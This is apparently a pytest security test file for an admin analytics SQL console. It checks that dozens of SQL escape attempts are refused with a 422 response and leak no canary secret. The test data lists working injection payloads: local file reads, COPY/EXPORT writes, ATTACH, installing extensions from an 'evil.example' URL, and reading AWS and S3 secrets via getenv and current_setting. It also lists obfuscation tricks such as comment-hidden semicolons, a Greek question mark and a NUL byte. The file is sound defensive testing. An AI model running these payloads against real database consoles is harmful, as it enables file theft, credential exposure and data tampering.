"""The SQL console's escape attempts over HTTP (`POST /analytics/query {sql}` as an admin; R-AN-3, R-AN-4):
reading local files (read_csv / read_text / read_parquet / a path as a table / glob), writing them (COPY ... TO,
EXPORT), ATTACH, INSTALL / LOAD of extensions, PRAGMA, SET, the environment and settings (getenv,
current_setting, duckdb_settings(), duckdb_secrets()), the catalog (information_schema, duckdb_tables()),
several statements, and the same hidden behind comments, quoting, case, unicode look-alikes, subqueries,
CTEs and FROM-first syntax. Each is refused by the console's guard (422 `query_refused`: it never ran), never a
5xx, and the response holds no byte of the canary file it aimed at; nothing is written. The guard's own unit
tests are tests/unit/test_analytics_console.py: this is the proof over the real stack, where DuckDB could
reach this machine's files."""

from __future__ import annotations

import uuid

import pytest
import requests

pytestmark = pytest.mark.slow

SECRET = f"canary-{uuid.uuid4().hex}"


@pytest.fixture(scope="module")
def canary(tmp_path_factory):
    """A directory with a secret in a text file, a CSV and a JSON file, and where written files would land."""
    directory = tmp_path_factory.mktemp("console-canary")
    (directory / "secret.txt").write_text(SECRET + "\n")
    (directory / "secret.csv").write_text(f"secret\n{SECRET}\n")
    (directory / "secret.json").write_text(f'{{"secret": "{SECRET}"}}\n')
    return directory


# `{d}` is the canary directory.
ESCAPES = {
    # reading files
    "read_text": "SELECT content FROM read_text('{d}/secret.txt')",
    "read_csv": "SELECT * FROM read_csv('{d}/secret.csv')",
    "read_csv_auto": "SELECT * FROM read_csv_auto('{d}/secret.csv')",
    "read_json_auto": "SELECT * FROM read_json_auto('{d}/secret.json')",
    "read_parquet": "SELECT * FROM read_parquet('{d}/*.parquet')",
    "read_blob": "SELECT content FROM read_blob('{d}/secret.txt')",
    "path as a table": "SELECT * FROM '{d}/secret.csv'",
    "quoted path as a table": 'SELECT * FROM "{d}/secret.csv"',
    "relative path as a table": 'SELECT * FROM tasks JOIN "../../../../{d}/secret.csv" AS s ON true',
    "url as a table": "SELECT * FROM 'https://example.com/secret.csv'",
    "glob": "SELECT * FROM glob('{d}/*')",
    "glob as scalar": "SELECT glob('{d}/*')",
    "sqlite_scan": "SELECT * FROM sqlite_scan('{d}/secret.db', 't')",
    "parquet_metadata": "SELECT * FROM parquet_metadata('{d}/secret.parquet')",
    "query()": "SELECT * FROM query('SELECT * FROM read_text(''{d}/secret.txt'')')",
    "query_table()": "SELECT * FROM query_table('transactions')",
    # writing files
    "copy to": "COPY (SELECT 1 AS x) TO '{d}/written.csv'",
    "copy table to": "COPY transactions TO '{d}/written.csv'",
    "export database": "EXPORT DATABASE '{d}/exported'",
    "select into": "SELECT 1 AS x INTO written",
    "create table as": "CREATE TABLE written AS SELECT 1 AS x",
    "insert": "INSERT INTO transactions (transaction_id) VALUES ('x')",
    "cte-wrapped delete": "WITH gone AS (DELETE FROM transactions RETURNING *) SELECT * FROM gone",
    "cte-wrapped insert": "WITH added AS (INSERT INTO tasks (task_id) VALUES ('x') RETURNING *) SELECT * FROM added",
    "cte-wrapped copy": "WITH x AS (SELECT 1) COPY (SELECT * FROM x) TO '{d}/written.csv'",
    # other databases and extensions
    "attach file": "ATTACH '{d}/attached.db' AS pwned",
    "attach memory": "ATTACH ':memory:' AS pwned",
    "detach": "DETACH pwned",
    "install httpfs": "INSTALL httpfs",
    "install from a url": "INSTALL httpfs FROM 'https://evil.example'",
    "load httpfs": "LOAD httpfs",
    "load a file": "LOAD '{d}/evil.duckdb_extension'",
    "load_extension()": "SELECT load_extension('{d}/evil')",
    "create secret": "CREATE SECRET pwned (TYPE s3, KEY_ID 'x', SECRET 'y')",
    "create macro": "CREATE MACRO pwned(x) AS x",
    # the engine, the environment, settings
    "pragma": "PRAGMA database_list",
    "pragma function": "SELECT * FROM pragma_version()",
    "call": "CALL pragma_table_info('transactions')",
    "set": "SET enable_external_access = true",
    "set variable": "SET VARIABLE x = 1",
    "reset": "RESET enable_external_access",
    "use": "USE pwned",
    "checkpoint": "CHECKPOINT",
    "getenv": "SELECT getenv('AWS_SECRET_ACCESS_KEY')",
    "getenv in a where": "SELECT * FROM transactions WHERE reason = getenv('HOME')",
    "current_setting": "SELECT current_setting('s3_secret_access_key')",
    "duckdb_settings()": "SELECT * FROM duckdb_settings()",
    "duckdb_secrets()": "SELECT * FROM duckdb_secrets()",
    "duckdb_extensions()": "SELECT * FROM duckdb_extensions()",
    "explain analyze": "EXPLAIN ANALYZE SELECT * FROM transactions",
    "describe": "DESCRIBE transactions",
    "show tables": "SHOW TABLES",
    "summarize": "SUMMARIZE transactions",
    # the catalog
    "information_schema.tables": "SELECT * FROM information_schema.tables",
    "information_schema.columns": "SELECT table_name, column_name FROM information_schema.columns",
    "duckdb_tables()": "SELECT * FROM duckdb_tables()",
    "pg_catalog": "SELECT * FROM pg_catalog.pg_tables",
    "sqlite_master": "SELECT * FROM sqlite_master",
    "qualified table": "SELECT * FROM main.transactions",
    "catalog-qualified table": "SELECT * FROM memory.main.transactions",
    # several statements, and tricks
    "two statements": "SELECT 1; SELECT content FROM read_text('{d}/secret.txt')",
    "a drop after a select": "SELECT 1; DROP TABLE transactions",
    "empty statements between": "SELECT 1;;; COPY (SELECT 1) TO '{d}/written.csv'",
    "line comment hiding a semicolon": "SELECT 1 -- harmless\n; COPY (SELECT 1) TO '{d}/written.csv'",
    "block comment before attach": "SELECT 1 /* harmless */; ATTACH '{d}/attached.db'",
    "block comment around a union": (
        "SELECT * FROM transactions /* -- */ UNION ALL SELECT * FROM read_csv('{d}/secret.csv') /* */"
    ),
    "mixed case": "sElEcT * fRoM ReAd_TeXt('{d}/secret.txt')",
    "quoted function name": "SELECT * FROM \"read_text\"('{d}/secret.txt')",
    "backquoted function name": "SELECT * FROM `read_text`('{d}/secret.txt')",
    "list of paths": "SELECT * FROM read_text(['{d}/secret.txt'])",
    "from-first syntax": "FROM read_text('{d}/secret.txt') SELECT *",
    "subquery": "SELECT * FROM (SELECT * FROM read_text('{d}/secret.txt')) AS s",
    "scalar subquery": "SELECT (SELECT content FROM read_text('{d}/secret.txt')) AS leaked",
    "subquery in a where": "SELECT * FROM transactions WHERE 1 = (SELECT count(*) FROM read_text('{d}/secret.txt'))",
    "subquery in a limit": "SELECT * FROM transactions LIMIT (SELECT count(*) FROM read_text('{d}/secret.txt'))",
    "lateral": "SELECT * FROM transactions, LATERAL (SELECT * FROM read_text('{d}/secret.txt')) AS s",
    "union": "SELECT reason FROM transactions UNION ALL SELECT content FROM read_text('{d}/secret.txt')",
    "cte reading a file": "WITH s AS (SELECT * FROM read_text('{d}/secret.txt')) SELECT * FROM s",
    "materialized cte": "WITH s AS MATERIALIZED (SELECT * FROM read_text('{d}/secret.txt')) SELECT * FROM s",
    "cte shadowed by a file": "WITH transactions AS (SELECT * FROM '{d}/secret.csv') SELECT * FROM transactions",
    "recursive cte": "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT n FROM r",
    "greek question mark": "SELECT 1\u037e COPY (SELECT 1) TO '{d}/written.csv'",
    "nul byte": "SELECT 1\x00; COPY (SELECT 1) TO '{d}/written.csv'",
    "values": "VALUES (1)",
    "parameters": "SELECT * FROM transactions WHERE reason = ?",
    "table function in a join": "SELECT * FROM tasks JOIN read_text('{d}/secret.txt') AS s ON true",
    "range()": "SELECT * FROM range(10)",
}


def query(stack, token: str, sql: str) -> requests.Response:
    return requests.post(
        f"{stack.api_url}/analytics/query", json={"sql": sql}, headers={"Authorization": f"Bearer {token}"}, timeout=60
    )


def test_the_console_answers_a_plain_query_so_the_refusals_below_mean_something(stack, cast):
    response = query(stack, cast["admin"].token, "SELECT count(*) AS n FROM transactions")
    assert response.status_code == 200, response.text
    assert response.json()["columns"] == ["n"]


@pytest.mark.parametrize("sql", list(ESCAPES.values()), ids=list(ESCAPES))
def test_r_an_3_an_escape_attempt_is_refused_and_leaks_nothing(stack, cast, canary, sql):
    response = query(stack, cast["admin"].token, sql.replace("{d}", str(canary)))
    assert response.status_code < 500, response.text
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"] == "query_refused", response.text
    assert SECRET not in response.text
    written = sorted(p.name for p in canary.iterdir() if not p.name.startswith("secret."))
    assert not written, f"the console wrote {written}"


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 'a'';COPY (SELECT 1) TO ''{d}/written.csv''--' AS s",
        "SELECT $$; COPY (SELECT 1) TO '{d}/written.csv'$$ AS s",
        "SELECT reason FROM transactions /* ; SELECT content FROM read_text('{d}/secret.txt') */",
        "SELECT 1 AS \"x; COPY (SELECT 1) TO '{d}/written.csv'\"",
    ],
    ids=["quote-escaped string", "dollar-quoted string", "statement in a comment", "statement in an identifier"],
)
def test_a_statement_inside_a_string_a_comment_or_a_name_never_runs(stack, cast, canary, sql):
    """These are single harmless queries: refused or answered, but the hidden statement does nothing."""
    response = query(stack, cast["admin"].token, sql.replace("{d}", str(canary)))
    assert response.status_code in (200, 422), response.text
    assert SECRET not in response.text
    assert not (canary / "written.csv").exists()
